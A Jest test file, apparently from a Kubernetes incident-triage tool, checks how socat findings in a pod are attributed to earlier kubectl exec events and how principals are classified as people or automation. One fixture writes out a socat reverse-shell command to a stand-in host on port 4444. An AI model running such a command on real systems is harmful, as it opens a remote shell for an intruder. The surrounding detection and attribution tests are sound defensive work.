import { describe, expect, it } from '@jest/globals';
import { attribute, classifyPrincipal } from '../../lib/decide/attribution.js';
import type { ExecEvent } from '../../lib/gather/sections.js';

const EVENT_TIME = '2026-11-27T10:00:00.500000000Z';

function exec(over: Partial<ExecEvent> = {}): ExecEvent {
  return {
    kind: 'exec',
    method: 'io.k8s.core.v1.pods.exec.get',
    container: null,
    time: '2026-11-27T09:58:00Z',
    principal: 'alice@example.com',
    callerIp: '198.51.100.7',
    userAgent: 'kubectl/v1.31.2 (linux/amd64) kubernetes/abc1234',
    command: ['sh'],
    namespace: 'shop',
    pod: 'checkout-7d9f8b6c5-x2x4q',
    mentionsSocat: false,
    ...over,
  };
}

const BASE = { namespace: 'shop', pod: 'checkout-7d9f8b6c5-x2x4q', eventTime: EVENT_TIME };

describe('attribute', () => {
  it('matches an exec into this pod before the finding and prefers the one that mentions socat', () => {
    const socat = exec({ time: '2026-11-27T09:50:00Z', command: ['socat', 'TCP:10.0.0.5:4444', 'EXEC:sh'], mentionsSocat: true });
    const later = exec({ time: '2026-11-27T09:59:00Z', principal: 'bob@example.com' });
    const a = attribute({ ...BASE, execs: [later, socat] });
    expect(a.kind).toBe('interactive_exec_by_person');
    expect(a.exec).toBe(socat);
    expect(a.execCount).toBe(2);
    for (const part of ['alice@example.com', '198.51.100.7', 'kubectl/v1.31.2', '2026-11-27T09:50:00Z', 'mentions socat']) {
      expect(a.explanation).toContain(part);
    }
  });

  it('takes the closest exec before the finding when none mentions socat', () => {
    const early = exec({ time: '2026-11-27T09:40:00Z', principal: 'early@example.com' });
    const close = exec({ time: '2026-11-27T09:59:59Z', principal: 'close@example.com' });
    const a = attribute({ ...BASE, execs: [close, early] });
    expect(a.exec?.principal).toBe('close@example.com');
    expect(a.explanation).toContain('close@example.com');
  });

  it('ignores execs into another pod or another namespace', () => {
    const otherPod = exec({ pod: 'checkout-7d9f8b6c5-zzzzz', mentionsSocat: true });
    const otherNs = exec({ namespace: 'staging', mentionsSocat: true });
    const a = attribute({ ...BASE, execs: [otherPod, otherNs] });
    expect(a.kind).toBe('no_exec_found');
    expect(a.exec).toBeNull();
    expect(a.execCount).toBe(0);
  });

  it('matches on the pod alone when the finding names no namespace', () => {
    const a = attribute({ ...BASE, namespace: null, execs: [exec({ namespace: 'shop' })] });
    expect(a.kind).toBe('interactive_exec_by_person');
  });

  it('ignores an exec after the finding: it cannot have started socat', () => {
    const after = exec({ time: '2026-11-27T10:00:00.600Z', mentionsSocat: true });
    const a = attribute({ ...BASE, execs: [after] });
    expect(a.kind).toBe('no_exec_found');
    expect(a.execCount).toBe(0);
  });

  it('compares below the millisecond, and an exec at the same instant counts', () => {
    const sameInstant = exec({ time: '2026-11-27T10:00:00.5Z' });
    const nanosAfter = exec({ time: '2026-11-27T10:00:00.500000001Z', principal: 'late@example.com' });
    const a = attribute({ ...BASE, execs: [nanosAfter, sameInstant] });
    expect(a.exec).toBe(sameInstant);
    expect(a.execCount).toBe(1);
  });

  it('ignores execs older than the window, and the window is configurable', () => {
    const old = exec({ time: '2026-11-27T09:00:00Z' });
    expect(attribute({ ...BASE, execs: [old] }).kind).toBe('no_exec_found');
    expect(attribute({ ...BASE, execs: [old], windowMinutes: 90 }).kind).toBe('interactive_exec_by_person');
  });

  it('ignores an exec whose time is missing or unreadable', () => {
    const a = attribute({ ...BASE, execs: [exec({ time: null }), exec({ time: 'yesterday' })] });
    expect(a.kind).toBe('no_exec_found');
  });

  it('says the workload started socat when logs were read and no exec matched', () => {
    const a = attribute({ ...BASE, execs: [] });
    expect(a.kind).toBe('no_exec_found');
    expect(a.explanation).toContain('the workload itself started socat');
    expect(a.explanation).toContain('shop/checkout-7d9f8b6c5-x2x4q');
  });

  it('is unknown when audit logs were not gathered', () => {
    const a = attribute({ ...BASE, execs: null });
    expect(a).toEqual({ kind: 'unknown', exec: null, execCount: 0, explanation: expect.stringContaining('not gathered') });
  });

  it('is unknown when the finding names no pod or has no usable event time', () => {
    expect(attribute({ ...BASE, pod: null, execs: [exec()] }).kind).toBe('unknown');
    const noTime = attribute({ ...BASE, eventTime: null, execs: [exec(), exec()] });
    expect(noTime.kind).toBe('unknown');
    expect(noTime.execCount).toBe(2);
    expect(noTime.exec).toBeNull();
  });

  it('attributes a service-account exec to automation', () => {
    const a = attribute({ ...BASE, execs: [exec({ principal: 'deployer@my-proj.iam.gserviceaccount.com' })] });
    expect(a.kind).toBe('exec_by_service_account');
    expect(a.explanation).toContain('deployer@my-proj.iam.gserviceaccount.com');
  });
});

describe('classifyPrincipal', () => {
  it.each([
    ['alice@example.com', 'person'],
    ['Alice.Smith+oncall@Corp.Example.CO.UK', 'person'],
    ['principal://iam.googleapis.com/locations/global/workforcePools/corp/subject/alice', 'person'],
    ['deployer@my-proj.iam.gserviceaccount.com', 'automation'],
    ['123456789-compute@developer.gserviceaccount.com', 'automation'],
    ['service-123@container-engine-robot.iam.gserviceaccount.com', 'automation'],
    ['robot@GSERVICEACCOUNT.COM', 'automation'],
    ['system:serviceaccount:ci:runner', 'automation'],
    ['system:node:gke-pool-1-abcd', 'automation'],
    ['System:anonymous', 'automation'],
    ['principal://iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p.svc.id.goog/subject/ns/ci/sa/runner', 'automation'],
    ['kubernetes-admin', 'automation'],
    ['alice@localhost', 'automation'],
    ['', 'automation'],
    [null, 'automation'],
  ] as const)('%j → %s', (principal, kind) => {
    expect(classifyPrincipal(principal)).toBe(kind);
  });

  it('notes lookalike domains are people, not service accounts', () => {
    // Only gserviceaccount.com itself and its subdomains are Google's; anyone can register the rest.
    expect(classifyPrincipal('x@gserviceaccount.com.evil.example')).toBe('person');
    expect(classifyPrincipal('x@notgserviceaccount.com')).toBe('person');
  });
});
